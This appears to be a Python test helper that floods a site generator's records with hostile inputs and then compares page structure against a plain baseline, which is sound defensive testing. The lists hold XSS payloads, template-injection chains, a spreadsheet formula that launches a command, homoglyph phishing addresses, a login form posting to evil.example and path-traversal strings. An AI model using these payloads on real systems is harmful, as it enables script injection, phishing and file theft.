"""The records of the small world with an attack in every text: the values, the records made of them, and the parts of a page.

Each world is the small one of `tests/small_world.py`, in which every field of every kind is filled in somewhere; optional texts that
a record does not give are filled in as well. A world of plain words is the baseline: whatever a hostile world adds to its pages, words
added.
"""

import re
from collections import Counter
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from types import UnionType
from typing import Annotated, Any, Union, get_args, get_origin

from pydantic import BaseModel, StringConstraints

from generator.loading.loader import Loaded, Origins
from generator.records.dataset import Dataset
from generator.records.guidance import Labels
from generator.records.kinds import KINDS
from tests.small_world import records

ROOT = Path(__file__).parents[1]
RAN = "window.__pwned=1"
"""What every attack tries to do."""

MARKUP = (
    f"<script>{RAN}</script>",
    f"</script><script>{RAN}</script>",
    f"<ScRiPt>{RAN}</sCrIpT>",
    f"<script/x>{RAN}</script>",
    f"<<script>{RAN}//<</script>",
    f"<img src=x onerror={RAN}>",
    f'<img src="x" onerror="{RAN}">',
    f"<svg onload={RAN}>",
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s>",
    f"<math><mi xlink:href=javascript:{RAN}>x</mi></math>",
    f"<body onload={RAN}>",
    f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    f"<details open ontoggle={RAN}>x</details>",
    f"<input autofocus onfocus={RAN}>",
    f"<video><source onerror={RAN}></video>",
    f"<marquee onstart={RAN}>x</marquee>",
    f"<object data=javascript:{RAN}></object>",
    "<embed src=https://evil.example/x.swf>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<form action=https://evil.example/><input name=q><button>Log in</button></form>",
    "<p style=position:fixed;inset:0>covers the page</p>",
    "<table><tr><td>cell</table>",
    "</div></main></body></html>",
    "</p></li></ul></article>",
    "</textarea></title></style>",
    "</pre></code></span>",
    "<!-- comment",
    "-->",
    "<!-- table: recall-windows -->",
    "<!-- contact: police-110 -->",
    "<![CDATA[ <b>x</b> ]]>",
    f"<?php {RAN} ?>",
    f"<template><script>{RAN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RAN}>'>",
    "&lt;b&gt;",
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"&#60;script&#62;{RAN}&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
    "&nbsp;&copy;&#x202e;",
    "<b>bold</b> <a href='https://evil.example/'>link</a>",
    "a < b > c & d",
)
ATTRIBUTES = (
    f'" onmouseover="{RAN}" x="',
    f"' onmouseover='{RAN}' x='",
    f'"><script>{RAN}</script>',
    f"'><script>{RAN}</script>",
    f'" autofocus onfocus="{RAN}" tabindex="1',
    '" style="position:fixed;inset:0',
    '" href="https://evil.example/',
    '" id="page-title',
    f"` onclick={RAN} `",
    f"x onclick={RAN}",
    '"/><svg/onload=1>',
    'data-plan="" data-letter=""',
)
ADDRESSES = (
    f"javascript:{RAN}",
    f"JaVaScRiPt:{RAN}",
    f"javascript&colon;{RAN}",
    f"java&Tab;script:{RAN}",
    f"data:text/html,<script>parent.{RAN}</script>",
    "data:image/svg+xml;base64,PHN2Zy8+",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/",
    "https://evil.example/",
    "<https://evil.example/>",
    f"<javascript:{RAN}>",
    "mailto:a@evil.example",
    "<a@evil.example>",
    "https://user@evil.example:80/%00",
    "https://раураl.example/",
    "https://xn--pypal-4ve.example/",
    "https://аррӏе.example/",
    "http://127.0.0.1:1/steal",
    "../../../../etc/passwd",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% raw %}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config.items() }}",
    "{{ site.dataset }}",
    "{# comment",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__}",
    "%(x)s %s %n",
    "\\x3cscript\\x3e",
    "\\u003cscript\\u003e",
)
MARKDOWN = (
    "# Heading",
    "## Heading {#page-title}",
    "Heading\n=======",
    "Heading\n-------",
    "---\ntitle: stolen\n---",
    "---",
    "***",
    "> quote",
    "- item",
    "1. item",
    "- [x] done",
    "    code block",
    "```html\n<script>x</script>\n```",
    "~~~\nfence",
    "`code`",
    "``",
    "**bold** _em_ ***both***",
    "__init__",
    "[link](https://evil.example/)",
    f"[link](javascript:{RAN})",
    '[link](x "title" onclick=1)',
    "[link]: https://evil.example/",
    "[text][link]",
    "![picture](https://evil.example/x.png)",
    f"![x](x){{ onerror={RAN} }}",
    "{: #page-title .z-hidden onclick=1 }",
    "{: style=display:none }",
    "text {: .z-first }",
    "*[HTML]: Hyper Text",
    "[^1]",
    "[^1]: footnote",
    "term\n: definition",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "!!! danger\n    admonition",
    '??? note "open"\n    details',
    "[TOC]",
    '--8<-- "/etc/passwd"',
    "\\<script\\>",
    "\\",
    ":smile: ==mark== ~~del~~ ^^ins^^ H~2~O",
    "$x$ $$y$$",
    "\x02stash\x03 wzxhzdk:0",
)
EXPORTS = (
    '=HYPERLINK("https://evil.example/","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "END:VEVENT",
    "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:stolen",
    "ATTACH:https://evil.example/",
    "]]></x>",
    '"],"pages":["https://evil.example/"],"x":["',
    "__proto__",
    "constructor",
)
LAYOUT = (
    "W" * 60,
    "https://example.com/" + "a" * 60,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
    "𝓕𝓪𝓷𝓬𝔂 ﷽ 👨‍👩‍👧".replace("‍", ""),
    "שלום مرحبا",
)
HOSTILE = (*MARKUP, *ATTRIBUTES, *ADDRESSES, *TEMPLATES, *MARKDOWN, *EXPORTS, *LAYOUT)
"""Every value that a text may hold as far as the models know."""
UNSEEN = tuple(chr(code) for code in (0x00, 0x08, 0x0B, 0x0D, 0x1B, 0x7F, 0x85, 0xA0, 0x061C, 0x200B, 0x200D, 0x200E, 0x200F))
UNSEEN += tuple(chr(code) for code in (0x2028, 0x2029, 0x202A, 0x202D, 0x202E, 0x2060, 0x2066, 0x2067, 0x2069, 0xFEFF))
"""Characters that turn, hide or split text: no file that holds one is read at all."""

CODES = {
    ("Platform", "region"),
    ("Applicability", "regions"),
    ("Comparison", "regions"),
    ("TransferType", "delay_choices"),
    ("Exemption", "*"),
}
CODES |= {("Redirect", "*"), ("SearchWord", "*")}
"""Texts that name something instead of being read; a page never prints them."""
_LENGTH = 1150
"""Of one text; the models allow 1,200."""
VOID = frozenset({"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"})


def packs() -> list[tuple[str, ...]]:
    """The values in as many groups as texts of legal length need."""
    found: list[list[str]] = [[]]
    for value in HOSTILE:
        if sum(len(one) + 1 for one in (*found[-1], value)) > _LENGTH:
            found.append([])
        found[-1].append(value.replace("\x02", "").replace("\x03", ""))
    return [tuple(group) for group in found]


class Filler:
    """Gives each text of a world its words, and a number, so that no two are the same. Which value of a pack comes first changes."""

    def __init__(self, pack: tuple[str, ...]) -> None:
        self.pack = pack
        self.count = 0
        self.filled: Counter[tuple[str, str]] = Counter()
        """(model, field) → texts filled."""

    def one(self) -> str:
        """A single value, for a word of the interface."""
        self.count += 1
        self.filled["Labels", "words"] += 1
        return self.pack[self.count % len(self.pack)].replace("{", "{{").replace("}", "}}")

    def words(self) -> str:
        self.count += 1
        turn = self.count % len(self.pack)
        return "\n".join((*self.pack[turn:], *self.pack[:turn])).strip() + f" {self.count}"


def plain() -> Filler:
    """The baseline: one harmless word."""
    return Filler(("words",))


def world(filler: Filler) -> Dataset:
    """The small world with every text filled in."""
    found: dict[str, Any] = {}
    for kind, held in records().records.items():
        if kind == "labels":
            found[kind] = {language: _relabelled(labels, filler) for language, labels in held.items()}
        elif kind not in {"exemptions", "redirects", "search"}:
            found[kind] = {key: _fill(record, filler) for key, record in held.items()}
    return Dataset(found)


def loaded(filler: Filler) -> Callable[..., Loaded]:
    """What `check_data` would give for the world."""
    made = world(filler)
    return lambda *_: Loaded(made, Origins(), [])


def _relabelled(labels: Labels, filler: Filler) -> Labels:
    """Every word of the interface with one value behind it; braces are doubled, because labels are filled in by `format`."""
    return Labels(
        words={section: {key: f"{word} {filler.one()}" for key, word in words.items()} for section, words in labels.words.items()}
    )


def project(folder: Path) -> Path:
    """A project with one page of prose and the real frame, hook and configuration."""
    for part in ("theme", "mkdocs_hooks.py"):
        (folder / part).symlink_to(ROOT / part)
    (folder / "content" / "zh").mkdir(parents=True)
    (folder / "content" / "zh" / "prose.md").write_text("# Prose\n", "utf-8")
    config = (ROOT / "mkdocs.yml").read_text("utf-8").partition("\nnav:")[0]
    (folder / "mkdocs.yml").write_text(re.sub(r"^watch:.*$", "", config, flags=re.MULTILINE) + "\n", "utf-8")
    return folder


def text_fields() -> set[tuple[str, str]]:
    """(model, field) of every text a record can hold."""
    models, waiting = set(), [kind.model for kind in KINDS if kind.name not in {"vocabularies", "labels"}]
    while waiting:
        model = waiting.pop()
        if model not in models:
            models.add(model)
            waiting += [part for field in model.model_fields.values() for part in _models_in(field.annotation)]
    pairs = {(model.__name__, name) for model in models for name, field in model.model_fields.items() if _is_text(model, name, field)}
    return {pair for pair in pairs if not _is_code(*pair)}


class Skeleton(HTMLParser):
    """What a page is made of: elements with the names of their attributes, and every address; words are left out.

    `<span lang>` round a foreign word depends on the words and is left out with them.
    """

    def __init__(self) -> None:
        super().__init__()
        self.parts: list[str] = []
        self.foreign: list[bool] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = dict(attrs)
        marks = tag in {"span", "q"} and set(names) <= {"lang", "title"}
        if tag not in VOID:
            self.foreign.append(marks)
        if marks and tag == "span" and "lang" in names:
            return
        shown = [
            f'{name}="{value}"' if name in {"href", "src", "id", "action", "type", "role"} else name
            for name, value in attrs
            if name != "lang"
        ]
        self.parts.append(f"<{tag} {' '.join(sorted(shown))}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.parts.append(f"<{tag}/>")

    def handle_comment(self, data: str) -> None:
        self.parts.append("<!---->")

    def handle_decl(self, decl: str) -> None:
        self.parts.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.parts.append("<?>")


def skeleton(html: str) -> list[str]:
    """The parts of a page in their order."""
    reader = Skeleton()
    reader.feed(html)
    reader.close()
    return reader.parts


def _models_in(annotation: Any) -> Iterator[type[BaseModel]]:
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        if annotation.__name__ != "Text":
            yield annotation
        return
    for part in get_args(annotation):
        yield from _models_in(part)


def _is_code(model: str, field: str) -> bool:
    return (model, field) in CODES or (model, "*") in CODES


def _is_text(model: type[BaseModel], name: str, field: Any) -> bool:
    """`Text`, `Words`, a letter's body, alone, optional or in a tuple."""
    if name in {"body", "body_en"}:
        return True
    return _holds_text(field.annotation, field.metadata)


def _holds_text(annotation: Any, metadata: Any = ()) -> bool:
    if getattr(annotation, "__name__", "") == "Text":
        return True
    if annotation is str:
        return _words_like(metadata)
    if get_origin(annotation) is Annotated:
        base, *more = get_args(annotation)
        return _holds_text(base, more)
    if get_origin(annotation) in {Union, UnionType, tuple}:
        return any(_holds_text(part) for part in get_args(annotation))
    return False


def _words_like(metadata: Any) -> bool:
    limits = [item for item in metadata if isinstance(item, StringConstraints)]
    return any(item.max_length == 1200 and item.pattern is None for item in limits)


def _fill(record: Any, filler: Filler) -> Any:
    model = type(record)
    changes: dict[str, Any] = {}
    for name, field in model.model_fields.items():
        value = getattr(record, name)
        if _is_text(model, name, field) and not _is_code(model.__name__, name):
            filler.filled[model.__name__, name] += 1
            changes[name] = _text(field, value, filler)
        elif isinstance(value, BaseModel):
            changes[name] = _fill(value, filler)
        elif isinstance(value, tuple):
            changes[name] = tuple(_fill(item, filler) if isinstance(item, BaseModel) else item for item in value)
    return record.model_copy(update=changes)


def _text(field: Any, value: Any, filler: Filler) -> Any:
    """The same shape with other words: a text in both languages, bare words, or as many of them as there were, at least one."""
    if "Text" in str(field.annotation):
        from generator.records.base import Text  # noqa: PLC0415 - the name is also a word above

        def made() -> Any:
            return Text(zh=filler.words(), en=filler.words())
    else:
        made = filler.words
    if tuple in map(get_origin, (field.annotation, *get_args(field.annotation))):
        return tuple(made() for _ in (value or (None,)))
    return made()
